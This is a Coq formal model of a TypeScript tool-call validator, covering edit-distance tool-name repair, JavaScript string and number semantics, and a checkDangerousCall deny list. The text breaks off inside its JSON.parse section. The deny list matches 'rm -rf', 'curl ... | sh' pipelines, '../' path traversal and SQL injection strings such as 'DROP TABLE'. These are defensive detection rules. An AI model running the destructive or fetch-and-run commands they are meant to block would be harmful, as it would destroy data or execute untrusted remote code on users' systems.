(** * Tool validator: validation and repair of tool calls

    A shallow embedding of [src/extensions/tool-validator/index.ts] and the
    properties of its helpers ([tryParseJson], [coerceValue],
    [findClosestToolName], [levenshteinDistance], [checkDangerousCall]), of
    [validateToolCall] and of the [before_tool_call] handler.

    Conventions of the model:
    - a JavaScript string is a [string]: a sequence of code units below 256
      (the Latin-1 range); [String.length] is [.length];
    - a JavaScript number is a binary64 [float]; array indices, string
      lengths and edit distances, which are small non-negative integers, are
      [nat];
    - an object is the association list of its own properties in
      [Object.entries] order; where the source reads or writes a property
      under a name that it takes from its input, the members inherited from
      [Object.prototype] are looked up as well ([Obj.lookup],
      [Obj.assign]);
    - [undefined], where a field may be absent, is [None];
    - the builtins the source calls ([JSON.parse], [Number], [String],
      regular expressions, [toLowerCase], [trim], [split]) are modelled on
      these strings and numbers; a JSON text with an escape above U+00FF
      is outside the model, the members of a parsed object are listed in
      the order of the text, and [String] answers for every value, also
      for an object whose own [toString] is no function, where JavaScript
      throws;
    - the schema library (TypeBox) is a parameter of the validator, the
      class [TypeBox]; [SimpleSchema] is an instance to run it on. *)

From Stdlib Require Import Arith Lia List Bool String Ascii ZArith.
From Stdlib Require Import DecimalString.
From Stdlib Require Import Floats.PrimFloat Floats.FloatOps Numbers.Cyclic.Int63.Uint63.
Import ListNotations.

Local Open Scope string_scope.
Local Open Scope list_scope.
Local Open Scope nat_scope.

Set Warnings "-inexact-float".

(* ------------------------------------------------------------------------- *)
(** ** JavaScript arrays written by index *)
(* ------------------------------------------------------------------------- *)

Module JsArray.

(** [arr[i] = v]: overwrites inside the array, appends at [arr.length],
    and past the length leaves holes, which the model fills with [d]
    (a hole reads as [undefined] in JavaScript; none is ever read here). *)
Fixpoint set {A : Type} (d : A) (l : list A) (i : nat) (v : A) : list A :=
  match l, i with
  | [], O => [v]
  | [], S i' => d :: set d [] i' v
  | _ :: l', O => v :: l'
  | x :: l', S i' => x :: set d l' i' v
  end.

End JsArray.

(* ------------------------------------------------------------------------- *)
(** ** levenshteinDistance *)
(* ------------------------------------------------------------------------- *)

(** [s.charAt(i)]: the one-character string at index [i], or the empty
    string when [i] is out of range. *)
Definition charAt (s : string) (i : nat) : string :=
  match String.get i s with
  | Some c => String c EmptyString
  | None => EmptyString
  end.

(** [number[][]] *)
Definition Matrix : Type := list (list nat).

(** [matrix[i][j]] *)
Definition mget (m : Matrix) (i j : nat) : nat := nth j (nth i m []) 0.

(** [matrix[i] = row] *)
Definition mset_row (m : Matrix) (i : nat) (row : list nat) : Matrix :=
  JsArray.set [] m i row.

(** [matrix[i][j] = v] *)
Definition mset (m : Matrix) (i j : nat) (v : nat) : Matrix :=
  JsArray.set [] m i (JsArray.set 0 (nth i m []) j v).

(** The body of the inner loop, at row [i] and column [j]. *)
Definition lev_cell (a b : string) (m : Matrix) (i j : nat) : Matrix :=
  if String.eqb (charAt b (i - 1)) (charAt a (j - 1)) then
    mset m i j (mget m (i - 1) (j - 1))
  else
    mset m i j
      (Nat.min (mget m (i - 1) (j - 1) + 1)        (* substitution *)
         (Nat.min (mget m i (j - 1) + 1)           (* insertion *)
                  (mget m (i - 1) j + 1))).        (* deletion *)

(** The matrix once the three loops have run. *)
Definition lev_matrix (a b : string) : Matrix :=
  let matrix : Matrix := [] in
  (* for (let i = 0; i <= b.length; i++) matrix[i] = [i]; *)
  let matrix :=
    fold_left (fun m i => mset_row m i [i]) (seq 0 (String.length b + 1)) matrix in
  (* for (let j = 0; j <= a.length; j++) matrix[0][j] = j; *)
  let matrix :=
    fold_left (fun m j => mset m 0 j j) (seq 0 (String.length a + 1)) matrix in
  (* for (let i = 1; i <= b.length; i++) for (let j = 1; j <= a.length; j++) *)
  fold_left
    (fun m i => fold_left (fun m j => lev_cell a b m i j)
                          (seq 1 (String.length a)) m)
    (seq 1 (String.length b)) matrix.

Definition levenshteinDistance (a b : string) : nat :=
  mget (lev_matrix a b) (String.length b) (String.length a).

(** The recurrence the matrix is filled by, as a function of the indices:
    [lev_rec a b i j] is the value the loops store in [matrix[i][j]]. *)
Fixpoint lev_rec (a b : string) (i j : nat) {struct i} : nat :=
  match i with
  | O => j
  | S i' =>
      (fix row (j : nat) : nat :=
         match j with
         | O => S i'
         | S j' =>
             if String.eqb (charAt b i') (charAt a j') then lev_rec a b i' j'
             else Nat.min (lev_rec a b i' j' + 1)
                    (Nat.min (row j' + 1) (lev_rec a b i' (S j') + 1))
         end) j
  end.

(* ------------------------------------------------------------------------- *)
(** ** Strings of the runtime *)
(* ------------------------------------------------------------------------- *)

Module JsString.

Definition code (c : ascii) : nat := nat_of_ascii c.

Definition in_range (lo hi : nat) (c : ascii) : bool :=
  Nat.leb lo (code c) && Nat.leb (code c) hi.

(** Upper-case letters of the Latin-1 range: A-Z and U+00C0-U+00DE but
    the multiplication sign U+00D7. *)
Definition is_upper (c : ascii) : bool :=
  in_range 65 90 c || (in_range 192 222 c && negb (Nat.eqb (code c) 215)).

(** Lower-case letters with an upper case inside the range: a-z and
    U+00E0-U+00FE but the division sign U+00F7. *)
Definition is_lower (c : ascii) : bool :=
  in_range 97 122 c || (in_range 224 254 c && negb (Nat.eqb (code c) 247)).

Definition lower_char (c : ascii) : ascii :=
  if is_upper c then ascii_of_nat (code c + 32) else c.

Definition upper_char (c : ascii) : ascii :=
  if is_lower c then ascii_of_nat (code c - 32) else c.

Fixpoint map (f : ascii -> ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (f c) (map f s')
  end.

(** [s.toLowerCase()] *)
Definition toLowerCase (s : string) : string := map lower_char s.

(** White space and line terminators below 256: tab, line feed, vertical
    tab, form feed, carriage return, space and the no-break space. *)
Definition white_space (c : ascii) : bool :=
  in_range 9 13 c || Nat.eqb (code c) 32 || Nat.eqb (code c) 160.

Fixpoint trim_start (s : string) : string :=
  match s with
  | String c s' => if white_space c then trim_start s' else s
  | EmptyString => s
  end.

Fixpoint rev_append (s acc : string) : string :=
  match s with
  | String c s' => rev_append s' (String c acc)
  | EmptyString => acc
  end.

Definition rev (s : string) : string := rev_append s "".

(** [s.trim()] *)
Definition trim (s : string) : string :=
  rev (trim_start (rev (trim_start s))).

(** [s.includes(c)] for a one-character [c] *)
Fixpoint includes (s : string) (c : ascii) : bool :=
  match s with
  | String c' s' => Ascii.eqb c' c || includes s' c
  | EmptyString => false
  end.

(** [s.split(c)] for a one-character separator: the pieces between the
    separators, the empty ones too. *)
Fixpoint split (s : string) (c : ascii) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c' s' =>
      if Ascii.eqb c' c then EmptyString :: split s' c
      else
        match split s' c with
        | piece :: pieces => String c' piece :: pieces
        | [] => [String c' EmptyString]
        end
  end.

(** The first [n] characters of [s], and [s] without them. *)
Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | S n', String c s' => String c (take n' s')
  | _, _ => EmptyString
  end.

Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | S n', String _ s' => drop n' s'
  | _, _ => s
  end.

(** [arr.join(sep)] on an array of strings *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => ""
  | [x] => x
  | x :: l' => x ++ sep ++ join sep l'
  end.

(** Decimal digits of a non-negative integer, as [String(n)] prints it. *)
Definition of_nat (n : nat) : string := NilEmpty.string_of_uint (Nat.to_uint n).

End JsString.

(* ------------------------------------------------------------------------- *)
(** ** findClosestToolName *)
(* ------------------------------------------------------------------------- *)

(** [minDistance]: an edit distance, or the [Infinity] it starts from. *)
Inductive Distance : Type :=
| Finite (n : nat)
| Infinity.

(** [x < y] *)
Definition dist_ltb (x y : Distance) : bool :=
  match x, y with
  | Finite n, Finite m => Nat.ltb n m
  | Finite _, Infinity => true
  | Infinity, _ => false
  end.

(** [x <= y] *)
Definition dist_leb (x y : Distance) : bool :=
  match x, y with
  | Finite n, Finite m => Nat.leb n m
  | _, Infinity => true
  | Infinity, Finite _ => false
  end.

(** [Math.ceil(len * 0.3)] for a string length [len].  The binary64 constant
    0.3 lies below three tenths by about 1.1e-17, so the rounded product
    lies strictly between the integers on both sides of [3 * len / 10] when
    that is no integer, and in [(3 * len / 10 - 1, 3 * len / 10]] when it is
    one: its ceiling is the ceiling of the exact [3 * len / 10]. *)
Definition ceil_three_tenths (len : nat) : nat := (3 * len + 9) / 10.

(** The same value computed in binary64, on the decoded product; the
    literal is the binary64 value of [0.3]. *)
Definition ceil_three_tenths_float (len : nat) : Z :=
  match Prim2SF (PrimFloat.mul (PrimFloat.of_uint63 (Uint63.of_Z (Z.of_nat len)))
                        0x1.3333333333333p-2%float) with
  | SpecFloat.S754_finite false m e =>
      (* m * 2^e, rounded up *)
      if Z.leb 0 e then (Z.pos m * 2 ^ e)%Z
      else (- ((- Z.pos m) / 2 ^ (- e)))%Z
  | _ => 0%Z
  end.

Record ClosestMatch : Type := mkClosestMatch {
  cm_match : option string;          (* match: string | null *)
  cm_distance : Distance
}.

(** [if (closest && ...)]: a string is truthy when it is not empty. *)
Definition truthy_string (s : string) : bool := negb (String.eqb s "").

(** The code after the loop. *)
Definition closest_result (closest : option string) (minDistance : Distance)
  : ClosestMatch :=
  match closest with
  | Some c =>
      (* Only suggest if within reasonable edit distance (30% of tool name length) *)
      if truthy_string c
         && dist_leb minDistance (Finite (ceil_three_tenths (String.length c)))
      then mkClosestMatch (Some c) minDistance
      else mkClosestMatch None minDistance
  | None => mkClosestMatch None minDistance
  end.

(** [for (const tool of availableTools)], with its early return, and then
    the code after the loop. *)
Fixpoint closest_loop (inputLower : string) (tools : list string)
    (closest : option string) (minDistance : Distance) : ClosestMatch :=
  match tools with
  | [] => closest_result closest minDistance
  | tool :: rest =>
      let toolLower := JsString.toLowerCase tool in
      (* Exact match (case insensitive) *)
      if String.eqb inputLower toolLower then mkClosestMatch (Some tool) (Finite 0)
      else
        let distance := levenshteinDistance inputLower toolLower in
        if dist_ltb (Finite distance) minDistance
        then closest_loop inputLower rest (Some tool) (Finite distance)
        else closest_loop inputLower rest closest minDistance
  end.

Definition findClosestToolName (input : string) (availableTools : list string)
  : ClosestMatch :=
  if existsb (String.eqb input) availableTools   (* availableTools.includes(input) *)
  then mkClosestMatch (Some input) (Finite 0)
  else closest_loop (JsString.toLowerCase input) availableTools None Infinity.

(* ------------------------------------------------------------------------- *)
(** ** Regular expressions of the runtime *)
(* ------------------------------------------------------------------------- *)

Module RegExp.

(** The pattern syntax the source uses: literal characters, classes and
    escapes, sequence, alternation, the greedy quantifiers [*] and [+],
    and numbered capturing groups. *)
Inductive Pattern : Type :=
| Empty
| Char (c : ascii)
| Class (p : ascii -> bool)
| Seq (r1 r2 : Pattern)
| Alt (r1 r2 : Pattern)
| Star (r : Pattern)
| Group (n : nat) (r : Pattern).

(** [r+] *)
Definition Plus (r : Pattern) : Pattern := Seq r (Star r).

(** A run of literal characters. *)
Fixpoint Lit (s : string) : Pattern :=
  match s with
  | EmptyString => Empty
  | String c EmptyString => Char c
  | String c s' => Seq (Char c) (Lit s')
  end.

(** [\s]: white space and line terminators. *)
Definition white_space : ascii -> bool := JsString.white_space.

(** [.]: any character but a line terminator. *)
Definition dot (c : ascii) : bool :=
  negb (Nat.eqb (JsString.code c) 10 || Nat.eqb (JsString.code c) 13).

(** [[a-zA-Z_]] *)
Definition ident_start (c : ascii) : bool :=
  JsString.in_range 97 122 c || JsString.in_range 65 90 c
  || Nat.eqb (JsString.code c) 95.

(** [[a-zA-Z0-9_]] *)
Definition ident_part (c : ascii) : bool :=
  ident_start c || JsString.in_range 48 57 c.

(** A regular expression object: its source text, its [i] and [g] flags
    and the pattern the source text denotes. *)
Record t : Type := mk {
  source : string;
  ignoreCase : bool;
  global : bool;
  pattern : Pattern
}.

(** [`${regex}`] *)
Definition toString (re : t) : string :=
  "/" ++ source re ++ "/"
  ++ (if global re then "g" else "") ++ (if ignoreCase re then "i" else "").

(** Two characters match when equal, under the [i] flag when their
    upper-case forms are. *)
Definition char_matches (ic : bool) (c c' : ascii) : bool :=
  if ic then Ascii.eqb (JsString.upper_char c) (JsString.upper_char c')
  else Ascii.eqb c c'.

(** Captured substrings by group number; an absent group is
    [undefined]. *)
Definition Captures : Type := list (nat * string).

Fixpoint capture (caps : Captures) (n : nat) : option string :=
  match caps with
  | [] => None
  | (m, s) :: caps' => if Nat.eqb m n then Some s else capture caps' n
  end.

(** What was consumed between the input [s] and its suffix [rest]. *)
Definition consumed (s rest : string) : string :=
  JsString.take (String.length s - String.length rest) s.

(** The state of a match: the input still to read and the captures. *)
Definition State : Type := (string * Captures)%type.

(** The backtracking matcher: [run ic r s caps k] matches [r] at the
    start of [s] and gives what is left to the continuation [k]; when [k]
    fails the next alternative is tried, greedy choices first.  An
    iteration of [*] that consumes nothing is refused. *)
Fixpoint run (ic : bool) (r : Pattern) (s : string) (caps : Captures)
    (k : string -> Captures -> option State) {struct r} : option State :=
  match r with
  | Empty => k s caps
  | Char c =>
      match s with
      | String c' s' => if char_matches ic c c' then k s' caps else None
      | EmptyString => None
      end
  | Class p =>
      match s with
      | String c' s' => if p c' then k s' caps else None
      | EmptyString => None
      end
  | Seq r1 r2 => run ic r1 s caps (fun s' caps' => run ic r2 s' caps' k)
  | Alt r1 r2 =>
      match run ic r1 s caps k with
      | Some st => Some st
      | None => run ic r2 s caps k
      end
  | Star r1 =>
      (fix star (fuel : nat) (s : string) (caps : Captures) : option State :=
         match fuel with
         | O => k s caps
         | S fuel' =>
             match run ic r1 s caps
                     (fun s' caps' =>
                        if Nat.ltb (String.length s') (String.length s)
                        then star fuel' s' caps' else None) with
             | Some st => Some st
             | None => k s caps
             end
         end) (String.length s) s caps
  | Group n r1 =>
      run ic r1 s caps (fun s' caps' => k s' ((n, consumed s s') :: caps'))
  end.

(** A match anchored at the start of [s]: what follows it, and the
    captures. *)
Definition match_here (re : t) (s : string) : option State :=
  run (ignoreCase re) (pattern re) s [] (fun s' caps => Some (s', caps)).

(** [re.test(s)] for a regular expression without the [g] flag: is there
    a match starting anywhere in [s]? *)
Fixpoint test (re : t) (s : string) : bool :=
  match match_here re s with
  | Some _ => true
  | None =>
      match s with
      | String _ s' => test re s'
      | EmptyString => false
      end
  end.

(** A replacement text: literal pieces and [$n] references. *)
Inductive Piece : Type :=
| Text (s : string)
| Ref (n : nat).

Fixpoint expand (template : list Piece) (caps : Captures) : string :=
  match template with
  | [] => ""
  | Text s :: rest => s ++ expand rest caps
  | Ref n :: rest =>
      match capture caps n with
      | Some s => s ++ expand rest caps
      | None => expand rest caps
      end
  end.

Fixpoint replace_from (fuel : nat) (re : t) (template : list Piece)
    (s : string) : string :=
  match fuel with
  | O => s
  | S fuel' =>
      match match_here re s with
      | Some (rest, caps) =>
          if Nat.ltb (String.length rest) (String.length s)
          then expand template caps ++ replace_from fuel' re template rest
          else
            (* an empty match: the search resumes one character on *)
            match s with
            | String c s' =>
                expand template caps ++ String c (replace_from fuel' re template s')
            | EmptyString => expand template caps
            end
      | None =>
          match s with
          | String c s' => String c (replace_from fuel' re template s')
          | EmptyString => EmptyString
          end
      end
  end.

(** [s.replace(re, template)] for a regular expression with the [g]
    flag: every match, left to right, is replaced. *)
Definition replace (s : string) (re : t) (template : list Piece) : string :=
  replace_from (S (String.length s)) re template s.

End RegExp.

(* ------------------------------------------------------------------------- *)
(** ** Numbers of the runtime *)
(* ------------------------------------------------------------------------- *)

Module JsNumber.
Local Open Scope Z_scope.

(** [isNaN(x)] on a number *)
Definition isNaN (x : float) : bool := PrimFloat.is_nan x.

(** [x !== 0] on a number *)
Definition nonzero (x : float) : bool := negb (PrimFloat.eqb x PrimFloat.zero).

Definition with_sign (neg : bool) (x : float) : float :=
  if neg then PrimFloat.opp x else x.

(** The binary64 value nearest to [p / q], ties to even, for [0 <= p] and
    [0 < q]: the rounding every conversion from text goes through. *)
Definition of_ratio (neg : bool) (p q : Z) : float :=
  if p =? 0 then with_sign neg PrimFloat.zero
  else
    let e0 := Z.log2 p - Z.log2 q in
    let reaches (e : Z) : bool :=      (* 2^e <= p / q *)
      if 0 <=? e then q * 2 ^ e <=? p else q <=? p * 2 ^ (- e) in
    let e := if reaches e0 then e0 else e0 - 1 in
    if 1024 <=? e then with_sign neg PrimFloat.infinity
    else
      let ex := Z.max e (-1022) - 52 in   (* exponent of the last place *)
      let num := if 0 <=? ex then p else p * 2 ^ (- ex) in
      let den := if 0 <=? ex then q * 2 ^ ex else q in
      let quo := num / den in
      let rem := num mod den in
      let m :=
        if 2 * rem <? den then quo
        else if den <? 2 * rem then quo + 1
        else if Z.even quo then quo else quo + 1 in
      with_sign neg (FloatOps.Z.ldexp (PrimFloat.of_uint63 (Uint63.of_Z m)) ex).

(** The number nearest to [m * 10^e], for [0 <= m]; operands far out of
    range are settled without computing the power. *)
Definition of_decimal (neg : bool) (m e : Z) : float :=
  if m =? 0 then with_sign neg PrimFloat.zero
  else if 400 <? e then with_sign neg PrimFloat.infinity
  else if e + (Z.log2 m + 1) <? -1100 then with_sign neg PrimFloat.zero
  else if 0 <=? e then of_ratio neg (m * 10 ^ e) 1
  else of_ratio neg m (10 ^ (- e)).

(** *** Reading digits *)

Definition digit_value (base : Z) (c : ascii) : option Z :=
  let n := Z.of_nat (JsString.code c) in
  let v :=
    if (48 <=? n) && (n <=? 57) then n - 48
    else if (97 <=? n) && (n <=? 102) then n - 87
    else if (65 <=? n) && (n <=? 70) then n - 55
    else 99 in
  if v <? base then Some v else None.

(** The longest run of digits at the start of [s]: its value continuing
    from [acc], how many digits were read, and what follows. *)
Fixpoint read_digits (base : Z) (s : string) (acc : Z) (count : nat)
  : Z * nat * string :=
  match s with
  | String c s' =>
      match digit_value base c with
      | Some v => read_digits base s' (acc * base + v) (S count)
      | None => (acc, count, s)
      end
  | EmptyString => (acc, count, s)
  end.

(** An optional sign: whether it is a minus, and what follows. *)
Definition read_sign (s : string) : bool * string :=
  match s with
  | String "-" s' => (true, s')
  | String "+" s' => (false, s')
  | _ => (false, s)
  end.

(** An optional exponent part [e±ddd]: its value and what follows. *)
Definition read_exponent (s : string) : option (Z * string) :=
  match s with
  | String c s' =>
      if Ascii.eqb c "e" || Ascii.eqb c "E" then
        let '(neg, s1) := read_sign s' in
        let '(v, count, rest) := read_digits 10 s1 0 O in
        match count with
        | O => None
        | S _ => Some (if neg then - v else v, rest)
        end
      else Some (0, s)
  | EmptyString => Some (0, s)
  end.

(** *** [Number(s)] *)

(** All of [s] as digits in [base], at least one. *)
Definition integer_literal (base : Z) (s : string) : float :=
  match read_digits base s 0 O with
  | (v, S _, EmptyString) => of_ratio false v 1
  | _ => PrimFloat.nan
  end.

(** An unsigned decimal literal: [ddd], [ddd.], [ddd.ddd] or [.ddd], with
    an optional exponent, and nothing after it. *)
Definition decimal_literal (neg : bool) (s : string) : float :=
  let '(int, n1, s1) := read_digits 10 s 0 O in
  let '(m, n2, s2) :=
    match s1 with
    | String "." s1' => read_digits 10 s1' int O
    | _ => (int, O, s1)
    end in
  match (n1 + n2)%nat with
  | O => PrimFloat.nan
  | S _ =>
      match read_exponent s2 with
      | Some (e, EmptyString) => of_decimal neg m (e - Z.of_nat n2)
      | _ => PrimFloat.nan
      end
  end.

(** [Number(s)] on a string: white space is trimmed, the empty string is
    zero, and what is no numeric literal is [NaN]. *)
Definition of_string (s : string) : float :=
  let t := JsString.trim s in
  match t with
  | EmptyString => PrimFloat.zero
  | String "0" (String c rest) =>
      if Ascii.eqb c "x" || Ascii.eqb c "X" then integer_literal 16 rest
      else if Ascii.eqb c "o" || Ascii.eqb c "O" then integer_literal 8 rest
      else if Ascii.eqb c "b" || Ascii.eqb c "B" then integer_literal 2 rest
      else decimal_literal false t
  | _ =>
      let '(neg, u) := read_sign t in
      if String.eqb u "Infinity" then with_sign neg PrimFloat.infinity
      else decimal_literal neg u
  end.

(** *** [String(x)] on a number *)

(** [10^k <= p / q] *)
Definition reaches10 (p q k : Z) : bool :=
  if 0 <=? k then q * 10 ^ k <=? p else q <=? p * 10 ^ (- k).

(** From an estimate, the [n] with [10^(n-1) <= p / q < 10^n]. *)
Fixpoint adjust_magnitude (fuel : nat) (p q n : Z) : Z :=
  match fuel with
  | O => n
  | S fuel' =>
      if reaches10 p q n then adjust_magnitude fuel' p q (n + 1)
      else if reaches10 p q (n - 1) then n
      else adjust_magnitude fuel' p q (n - 1)
  end.

Definition magnitude (p q : Z) : Z :=
  adjust_magnitude 8 p q ((Z.log2 p - Z.log2 q) * 30103 / 100000 + 1).

(** The [k]-digit decimal [s * 10^(n - k)] that reads back as [x], if
    there is one; of two, the nearer to [x = p / q], and the even one
    when they are as near.  The result is [(s, n)]. *)
Definition digits_at (x : float) (p q n k : Z) : option (Z * Z) :=
  let sh := n - k in
  let num := if 0 <=? sh then p else p * 10 ^ (- sh) in
  let den := if 0 <=? sh then q * 10 ^ sh else q in
  let lo := num / den in
  let rem := num mod den in
  let reads_back (s : Z) : bool := PrimFloat.eqb (of_decimal false s sh) x in
  let below := (lo, n) in
  let above := if lo + 1 =? 10 ^ k then (10 ^ (k - 1), n + 1) else (lo + 1, n) in
  if reads_back lo && reads_back (lo + 1) then
    if 2 * rem <? den then Some below
    else if den <? 2 * rem then Some above
    else if Z.even lo then Some below else Some above
  else if reads_back lo then Some below
  else if reads_back (lo + 1) then Some above
  else None.

(** The shortest such decimal: as few digits as possible. *)
Fixpoint shortest_digits (x : float) (p q n : Z) (ks : list Z) : Z * Z :=
  match ks with
  | [] => (0, n)
  | k :: ks' =>
      match digits_at x p q n k with
      | Some sn => sn
      | None => shortest_digits x p q n ks'
      end
  end.

Definition string_of_Z (z : Z) : string :=
  NilEmpty.string_of_uint (N.to_uint (Z.to_N z)).

Fixpoint zeros (n : nat) : string :=
  match n with
  | O => ""
  | S n' => String "0" (zeros n')
  end.

(** The text of the decimal [s * 10^(n - k)], [digits] being the [k]
    digits of [s]. *)
Definition format (digits : string) (n : Z) : string :=
  let k := Z.of_nat (String.length digits) in
  if (k <=? n) && (n <=? 21) then
    (digits ++ zeros (Z.to_nat (n - k)))%string
  else if (0 <? n) && (n <=? 21) then
    (JsString.take (Z.to_nat n) digits ++ "." ++ JsString.drop (Z.to_nat n) digits)%string
  else if (-6 <? n) && (n <=? 0) then
    ("0." ++ zeros (Z.to_nat (- n)) ++ digits)%string
  else
    let e := n - 1 in
    let marker : string := if e <? 0 then "e-"%string else "e+"%string in
    let exponent := (marker ++ string_of_Z (Z.abs e))%string in
    match digits with
    | String d EmptyString => (String d EmptyString ++ exponent)%string
    | String d rest => (String d EmptyString ++ "." ++ rest ++ exponent)%string
    | EmptyString => exponent
    end.

(** [String(x)], [x.toString()] *)
Definition toString (x : float) : string :=
  match Prim2SF x with
  | SpecFloat.S754_nan => "NaN"
  | SpecFloat.S754_zero _ => "0"
  | SpecFloat.S754_infinity neg => if neg then "-Infinity" else "Infinity"
  | SpecFloat.S754_finite neg m e =>
      let p := if 0 <=? e then Z.pos m * 2 ^ e else Z.pos m in
      let q := if 0 <=? e then 1 else 2 ^ (- e) in
      let '(s, n) :=
        shortest_digits (PrimFloat.abs x) p q (magnitude p q)
          [1; 2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13; 14; 15; 16; 17] in
      ((if neg then "-" else "") ++ format (string_of_Z s) n)%string
  end.

End JsNumber.

(* ------------------------------------------------------------------------- *)
(** ** Values *)
(* ------------------------------------------------------------------------- *)

Unset Elimination Schemes.

(** A value of type [unknown], as far as the validator meets them: the
    values of JSON, [undefined], and the built-in functions that every
    object inherits, each given by its name. *)
Inductive JSValue : Type :=
| JUndefined
| JNull
| JBoolean (b : bool)
| JNumber (n : float)
| JString (s : string)
| JArray (items : list JSValue)
| JObject (props : list (string * JSValue))
| JFunction (name : string).

Set Elimination Schemes.

(** [Record<string, unknown>] *)
Definition JSObject : Type := list (string * JSValue).

(** [Object.prototype], from which every record inherits. *)
Module ObjectPrototype.

(** Its functions: the name of the property, and the name of the function
    that the property holds. *)
Definition methods : list (string * string) :=
  [ ("constructor", "Object");
    ("__defineGetter__", "__defineGetter__");
    ("__defineSetter__", "__defineSetter__");
    ("hasOwnProperty", "hasOwnProperty");
    ("__lookupGetter__", "__lookupGetter__");
    ("__lookupSetter__", "__lookupSetter__");
    ("isPrototypeOf", "isPrototypeOf");
    ("propertyIsEnumerable", "propertyIsEnumerable");
    ("toString", "toString");
    ("valueOf", "valueOf");
    ("toLocaleString", "toLocaleString") ].

Fixpoint method_in (table : list (string * string)) (key : string)
  : option string :=
  match table with
  | [] => None
  | (k, name) :: table' => if String.eqb k key then Some name else method_in table' key
  end.

(** The function that [Object.prototype] holds under [key], if any. *)
Definition method (key : string) : option string := method_in methods key.

(** The prototype as a value: an object that lists no property. *)
Definition self : JSValue := JObject [].

End ObjectPrototype.

Module Obj.

(** The property of the object itself.  This is [obj[key]] for a [key]
    that [Object.prototype] does not define. *)
Fixpoint get (obj : JSObject) (key : string) : JSValue :=
  match obj with
  | [] => JUndefined
  | (k, v) :: obj' => if String.eqb k key then v else get obj' key
  end.

(** The object has a property [key] of its own. *)
Fixpoint has (obj : JSObject) (key : string) : bool :=
  match obj with
  | [] => false
  | (k, _) :: obj' => String.eqb k key || has obj' key
  end.

(** A property of the object itself: an existing property keeps its place,
    a new one goes last. *)
Fixpoint set (obj : JSObject) (key : string) (v : JSValue) : JSObject :=
  match obj with
  | [] => [(key, v)]
  | (k, v') :: obj' =>
      if String.eqb k key then (k, v) :: obj' else (k, v') :: set obj' key v
  end.

(** [obj[key]] for any [key]: the property of the object itself, and
    without one what [Object.prototype] has under that name, a function or,
    from the getter of [__proto__], the prototype. *)
Definition lookup (obj : JSObject) (key : string) : JSValue :=
  if has obj key then get obj key
  else if String.eqb key "__proto__" then ObjectPrototype.self
  else
    match ObjectPrototype.method key with
    | Some name => JFunction name
    | None => JUndefined
    end.

(** [obj[key] = v] for any [key].  A property of the object itself is
    written; so is one that shadows a function of the prototype, which are
    all writable.  Without a property [__proto__] of its own the object has
    the setter of the prototype called, which changes the prototype when
    [v] is an object and nothing otherwise, and never gives the object a
    property. *)
Definition assign (obj : JSObject) (key : string) (v : JSValue) : JSObject :=
  if negb (has obj key) && String.eqb key "__proto__" then obj
  else set obj key v.

End Obj.

(* ------------------------------------------------------------------------- *)
(** ** checkDangerousCall *)
(* ------------------------------------------------------------------------- *)

Record DangerRule : Type := mkDangerRule {
  rule_tool : string;
  rule_param : string;
  rule_patterns : list RegExp.t
}.

Module Patterns.
Import RegExp.

Definition ws : Pattern := Class white_space.

(** [/;\s*rm\s+-rf/] *)
Definition rm_rf : RegExp.t :=
  mk ";\s*rm\s+-rf" false false
     (Seq (Char ";") (Seq (Star ws) (Seq (Lit "rm") (Seq (Plus ws) (Lit "-rf"))))).

(** [/&&\s*curl.*\|.*sh/] *)
Definition curl_pipe_sh : RegExp.t :=
  mk "&&\s*curl.*\|.*sh" false false
     (Seq (Lit "&&") (Seq (Star ws) (Seq (Lit "curl")
        (Seq (Star (Class dot)) (Seq (Char "|")
           (Seq (Star (Class dot)) (Lit "sh"))))))).

(** [/\.\.\//] *)
Definition dot_dot_slash : RegExp.t :=
  mk "\.\.\/" false false (Lit "../").

(** [/;\s*DROP\s+TABLE/i] *)
Definition drop_table : RegExp.t :=
  mk ";\s*DROP\s+TABLE" true false
     (Seq (Char ";") (Seq (Star ws) (Seq (Lit "DROP") (Seq (Plus ws) (Lit "TABLE"))))).

(** [/'\s*OR\s+'1'\s*=\s*'1/i] *)
Definition or_one_equals_one : RegExp.t :=
  mk "'\s*OR\s+'1'\s*=\s*'1" true false
     (Seq (Char "'") (Seq (Star ws) (Seq (Lit "OR") (Seq (Plus ws)
        (Seq (Lit "'1'") (Seq (Star ws) (Seq (Char "=")
           (Seq (Star ws) (Lit "'1"))))))))).

End Patterns.

Definition dangerousPatterns : list DangerRule :=
  [ (* Shell injection *)
    mkDangerRule "bash" "command" [Patterns.rm_rf; Patterns.curl_pipe_sh];
    (* Path traversal *)
    mkDangerRule "*" "path" [Patterns.dot_dot_slash];
    mkDangerRule "*" "file" [Patterns.dot_dot_slash];
    (* SQL injection (if applicable) *)
    mkDangerRule "*" "query" [Patterns.drop_table; Patterns.or_one_equals_one] ].

Record DangerCheck : Type := mkDangerCheck {
  dangerous : bool;
  reason : option string
}.

Definition danger_reason (param : string) (regex : RegExp.t) : string :=
  "Potentially dangerous pattern detected in " ++ param ++ ": "
  ++ RegExp.toString regex.

(** [for (const regex of pattern.patterns)]: the first regex that matches. *)
Fixpoint first_matching (patterns : list RegExp.t) (value : string)
  : option RegExp.t :=
  match patterns with
  | [] => None
  | regex :: rest =>
      if RegExp.test regex value then Some regex else first_matching rest value
  end.

(** [for (const pattern of dangerousPatterns)] *)
Fixpoint check_rules (rules : list DangerRule) (toolName : string)
    (params : JSObject) : DangerCheck :=
  match rules with
  | [] => mkDangerCheck false None
  | pattern :: rest =>
      if negb (String.eqb (rule_tool pattern) "*")
         && negb (String.eqb (rule_tool pattern) toolName)
      then check_rules rest toolName params
      else
        match Obj.get params (rule_param pattern) with
        | JString value =>
            match first_matching (rule_patterns pattern) value with
            | Some regex =>
                mkDangerCheck true (Some (danger_reason (rule_param pattern) regex))
            | None => check_rules rest toolName params
            end
        | _ => check_rules rest toolName params
        end
  end.

Definition checkDangerousCall (toolName : string) (params : JSObject)
  : DangerCheck :=
  check_rules dangerousPatterns toolName params.

(* ------------------------------------------------------------------------- *)
(** ** JSON.parse *)
(* ------------------------------------------------------------------------- *)

(** The double quote. *)
Definition dquote : ascii := "034"%char.

Module JSON.

(** JSON white space: tab, line feed, carriage return, space. *)
Definition is_ws (c : ascii) : bool :=
  let n := JsString.code c in
